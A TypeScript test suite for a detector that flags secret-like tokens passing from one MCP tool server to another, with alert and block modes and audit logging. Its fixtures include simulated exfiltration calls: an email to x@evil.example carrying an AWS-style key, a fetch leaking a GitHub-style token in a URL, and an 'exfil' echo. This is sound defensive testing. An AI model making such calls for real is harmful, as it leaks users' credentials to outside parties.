import assert from "node:assert/strict";
import type { WatchdogConfig } from "../src/config.ts";
import {
  createFlowDetector,
  FLOW_NS_PREFIX,
  isSignificantToken,
  maskToken,
  significantTokens,
} from "../src/detectors/flow.ts";
import type { DetectorEnv, JsonRpcMessage, MessageDetector } from "../src/pipeline/detector.ts";
import { MemoryStore } from "../src/store/memory_store.ts";
import type { StateStore } from "../src/store/store.ts";
import type { Json } from "../src/types.ts";
import { connect, detectorEnv, EVERYTHING, FILESYSTEM, PROXY, SDK_TEST } from "./helpers.ts";

const SECRET = "AKIAIOSFODNN7EXAMPLE";
const GH = "ghp_R8x2kLq9ZpW4vN7mT3yB6cH1dF5gJ0sAeUi";

Deno.test("isSignificantToken: secrets, hashes, ids yes; words, dates, versions, small numbers no", () => {
  for (
    const t of [
      SECRET,
      GH,
      "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
      "123e4567-e89b-12d3-a456-426614174000",
      "ORD-2024-88412",
      "INV20240001",
      "4111111111111111",
      "xQzRtYpLmNbVcKsWdJhGfA",
    ]
  ) assert.ok(isSignificantToken(t), t);
  for (
    const t of [
      "international",
      "getUserAccountSettingsForOrganization",
      "node_modules",
      "x86_64-linux-gnu",
      "utf8mb4_unicode_ci",
      "2026-11-23T10",
      "1732406951000",
      "12345",
      "deadbeef",
      "a".repeat(600),
      "----------------",
    ]
  ) assert.ok(!isSignificantToken(t), t);
});

Deno.test("significantTokens: deduplicated, bounded, separators trimmed", () => {
  const text =
    `key=${SECRET}; again ${SECRET}, path /x/${GH}/y -ORD-2024-88412- the quick brown fox`;
  assert.deepEqual(significantTokens(text), [SECRET, GH, "ORD-2024-88412"]);
  assert.deepEqual(significantTokens(text, 1), [SECRET]);
  assert.deepEqual(significantTokens("plain English words only, nothing else here at all."), []);
});

Deno.test("maskToken never shows the whole token", () => {
  assert.equal(maskToken(SECRET), "AKIA…(20 chars)");
});

/** A store that counts calls, to hold the detector to a few store calls per message. */
class CountingStore extends MemoryStore {
  calls = 0;
  override getMany<T>(ns: string, keys: readonly string[]) {
    this.calls++;
    return super.getMany<T>(ns, keys);
  }
  override putMany(ns: string, entries: readonly { key: string; value: unknown }[], ts?: number) {
    this.calls++;
    super.putMany(ns, entries, ts);
  }
  override evict(ns: string, olderThan: number, max: number) {
    this.calls++;
    return super.evict(ns, olderThan, max);
  }
}

function env(
  store: StateStore,
  name: string,
  over: Partial<WatchdogConfig> = {},
  now = () => 1_000_000,
): DetectorEnv {
  return detectorEnv({ name, key: `${name}-key`, session: "s1", store, config: over, now });
}

function result(d: MessageDetector, e: DetectorEnv, text: string, id = 1, tool = "read") {
  const msg: JsonRpcMessage = { jsonrpc: "2.0", id, result: { content: [{ type: "text", text }] } };
  return d.inspect(
    msg,
    {
      server: e.server.name,
      direction: "server_to_client",
      method: "tools/call",
      id,
      tool,
    } as never,
    e,
  );
}

function call(
  d: MessageDetector,
  e: DetectorEnv,
  name: string,
  args: { [k: string]: Json },
  id = 2,
) {
  const msg: JsonRpcMessage = {
    jsonrpc: "2.0",
    id,
    method: "tools/call",
    params: { name, arguments: args },
  };
  return d.inspect(msg, {
    server: e.server.name,
    direction: "client_to_server",
    method: "tools/call",
    id,
  }, e);
}

Deno.test("flow: a secret from server A sent to server B is flagged, naming both, the tool and field", () => {
  const store = new MemoryStore();
  const d = createFlowDetector();
  const a = env(store, "files"), b = env(store, "mailer");
  assert.equal(result(d, a, `aws_access_key_id = ${SECRET}\nregion = eu-west-1`), undefined);
  const v = call(d, b, "send_email", { to: "x@evil.example", body: `here: ${SECRET}` });
  assert.ok(v);
  assert.equal(v.block, undefined, "alert policy does not block");
  const f = v.findings[0];
  assert.equal(f.layer, "L3-flow");
  assert.equal(f.severity, "high");
  assert.equal(f.action, "alert");
  assert.equal(f.path, "/params/arguments/body");
  assert.equal(f.tool, "send_email");
  assert.match(f.message, /"files".*"mailer".*send_email.*\/params\/arguments\/body/);
  assert.ok(!JSON.stringify(f).includes(SECRET), "the secret is not in the finding");
  // The store holds fingerprints only.
  const stored = JSON.stringify(store.list(FLOW_NS_PREFIX + "s1"));
  assert.ok(!stored.includes(SECRET));
});

Deno.test("flow: --flow-policy block refuses the request with a JSON-RPC error", () => {
  const store = new MemoryStore();
  const d = createFlowDetector();
  result(d, env(store, "files"), `token ${GH}`);
  const v = call(d, env(store, "web", { flowPolicy: "block" }), "fetch", {
    url: `https://x.example/?q=${GH}`,
  });
  assert.equal(v?.block?.code, -32002);
  assert.match(v!.block!.message, /l3-cross-server-flow.*"files".*"web"/);
  assert.equal(v!.findings[0].action, "block");
});

Deno.test("flow: no finding for the same server, the client's own tokens, or another session", () => {
  const store = new MemoryStore();
  const d = createFlowDetector();
  const a = env(store, "files"), b = env(store, "git");
  // The client sends an id first (to A); A echoes it; sending it to B is not a cross-server flow.
  const clientId = "ORD-2024-88412";
  assert.equal(call(d, a, "lookup", { id: clientId }), undefined);
  result(d, a, `order ${clientId} shipped; tracking ${SECRET}`);
  assert.equal(call(d, b, "note", { text: `order ${clientId}` }), undefined);
  // Back to A itself: fine.
  assert.equal(call(d, a, "lookup", { id: SECRET }), undefined);
  // Another client session does not see session s1's tokens.
  const other = { ...b, session: "s2" };
  assert.equal(call(d, other, "post", { body: SECRET }), undefined);
  // Ordinary words and paths never flag.
  result(d, a, "The README explains the installation in /home/u/project/src/index.ts");
  assert.equal(
    call(d, b, "commit", {
      message: "Update installation notes",
      path: "/home/u/project/src/index.ts",
    }),
    undefined,
  );
});

Deno.test("flow: tokens expire after the window, and the namespace stays bounded (LRU)", () => {
  const store = new MemoryStore();
  let t = 1_000_000;
  const d = createFlowDetector({ windowMs: 60_000, maxTokens: 3 });
  const a = env(store, "a", {}, () => t), b = env(store, "b", {}, () => t);
  result(d, a, `old ${SECRET}`);
  t += 120_000;
  result(d, a, "fresh tokens 9f86d081884c7d659a2feaa0c55ad015 INV20240001");
  assert.equal(call(d, b, "post", { body: SECRET }), undefined, "expired");
  t += 1;
  result(d, a, `newer 123e4567-e89b-12d3-a456-426614174000 ${GH}`);
  assert.ok(store.list(FLOW_NS_PREFIX + "s1").length <= 3);
  assert.ok(call(d, b, "post", { body: GH })?.findings.length, "the most recent survives");
  // Tokens the client sends are bounded the same way.
  call(d, b, "post", {
    body: "AbCdEfGh12345678XyZw 9f86d081884c7d659a2feaa0c55ad0ff ORD-2024-99999",
  });
  assert.ok(store.list(FLOW_NS_PREFIX + "s1").length <= 3);
});

Deno.test("flow: a 1 MB English response costs at most three store calls and few tokens", () => {
  const store = new CountingStore();
  const d = createFlowDetector();
  const words =
    "the quick brown fox jumps over the lazy dog while reading documentation about servers ";
  const big = words.repeat(Math.ceil(1_000_000 / words.length)) + ` ${SECRET}`;
  result(d, env(store, "a"), big);
  assert.ok(store.calls <= 3, `store calls: ${store.calls}`);
  assert.equal(store.list(FLOW_NS_PREFIX + "s1").length, 1, "only the secret is remembered");
  store.calls = 0;
  call(d, env(store, "b"), "post", { body: big });
  assert.ok(store.calls <= 3, `store calls: ${store.calls}`);
});

Deno.test("flow: resources/read results are sources; resources/read and prompts/get requests are sinks", () => {
  const store = new MemoryStore();
  const d = createFlowDetector();
  const a = env(store, "a"), b = env(store, "b");
  d.inspect(
    { jsonrpc: "2.0", id: 3, result: { contents: [{ uri: "x://y", text: `secret ${GH}` }] } },
    { server: "a", direction: "server_to_client", method: "resources/read", id: 3 },
    a,
  );
  const v = d.inspect(
    { jsonrpc: "2.0", id: 4, method: "prompts/get", params: { name: "p", arguments: { q: GH } } },
    { server: "b", direction: "client_to_server", method: "prompts/get", id: 4 },
    b,
  );
  assert.equal(v?.findings[0].path, "/params/arguments/q");
  // tools/list descriptions are not data handed over: no source.
  d.inspect(
    { jsonrpc: "2.0", id: 5, result: { tools: [{ name: "t", description: `uses ${SECRET}` }] } },
    { server: "a", direction: "server_to_client", method: "tools/list", id: 5 },
    a,
  );
  assert.equal(call(d, b, "post", { body: SECRET }), undefined);
});

// ---- end to end: two wrapper processes sharing a session and a state dir ----

Deno.test({
  name: "e2e: a token read through server A is refused on its way to server B (separate wrappers)",
  ...SDK_TEST,
  async fn() {
    const t = Deno.realPathSync(Deno.makeTempDirSync({ prefix: "wd-flow-" }));
    const token = "ACCT-2024-88412977";
    Deno.writeTextFileSync(`${t}/customer.txt`, `customer account ${token}, status active\n`);
    const env = { MCP_WATCHDOG_SESSION: `flow-e2e-${crypto.randomUUID()}` };
    const state = ["--state-dir", `${t}/state`];
    const a = await connect([
      ...PROXY,
      "--quiet",
      ...state,
      "--name",
      "files",
      "--",
      ...FILESYSTEM,
      t,
    ], {
      capabilities: false,
      env,
    });
    const b = await connect(
      [
        ...PROXY,
        "--quiet",
        ...state,
        "--name",
        "everything",
        "--flow-policy",
        "block",
        "--",
        ...EVERYTHING,
      ],
      { capabilities: false, env },
    );
    try {
      const read = await a.callTool({
        name: "read_text_file",
        arguments: { path: `${t}/customer.txt` },
      });
      assert.match(JSON.stringify(read.content), new RegExp(token));
      await assert.rejects(
        () => b.callTool({ name: "echo", arguments: { message: `exfil ${token}` } }),
        (e: Error) => {
          assert.match(e.message, /l3-cross-server-flow/);
          assert.match(e.message, /"files".*"everything".*echo.*\/params\/arguments\/message/);
          return true;
        },
      );
      // Clean traffic to B still flows.
      const ok = await b.callTool({ name: "echo", arguments: { message: "hello there" } });
      assert.match(JSON.stringify(ok.content), /hello there/);
      // In alert mode (the default) the call goes through and the audit log says why, without the token.
      const c = await connect(
        [
          ...PROXY,
          "--quiet",
          ...state,
          "--name",
          "notes",
          "--audit-log",
          `${t}/audit.jsonl`,
          "--",
          ...EVERYTHING,
        ],
        { capabilities: false, env },
      );
      try {
        const passed = await c.callTool({ name: "echo", arguments: { message: `note ${token}` } });
        assert.match(JSON.stringify(passed.content), new RegExp(token));
      } finally {
        await c.close();
      }
      const audit = Deno.readTextFileSync(`${t}/audit.jsonl`);
      const rec = audit.split("\n").filter(Boolean).map((l) => JSON.parse(l))
        .find((r) => r.rule === "l3-cross-server-flow");
      assert.ok(rec, audit);
      assert.equal(rec.action, "alerted");
      assert.equal(rec.layer, "L3-flow");
      assert.ok(!audit.includes(token), "the token is not in the audit log");
      // The state database holds fingerprints, never the token.
      for (const f of Deno.readDirSync(`${t}/state`)) {
        const bytes = Deno.readFileSync(`${t}/state/${f.name}`);
        assert.ok(!new TextDecoder().decode(bytes).includes(token), f.name);
      }
    } finally {
      await a.close();
      await b.close();
      Deno.removeSync(t, { recursive: true });
    }
  },
});

Deno.test("flow: namespaces of ended client sessions are expired by later sessions", () => {
  const store = new MemoryStore();
  let t = 1_000_000;
  const d = createFlowDetector({ windowMs: 60_000 });
  const old = { ...env(store, "a", {}, () => t), session: "old" };
  result(d, old, `token ${GH}`);
  assert.equal(store.list(FLOW_NS_PREFIX + "old").length, 1);
  t += 120_000;
  const fresh = { ...env(store, "a", {}, () => t), session: "new" };
  result(d, fresh, `token ${SECRET}`);
  assert.equal(store.list(FLOW_NS_PREFIX + "old").length, 0);
  assert.deepEqual(store.namespaces(FLOW_NS_PREFIX), [FLOW_NS_PREFIX + "new"]);
});
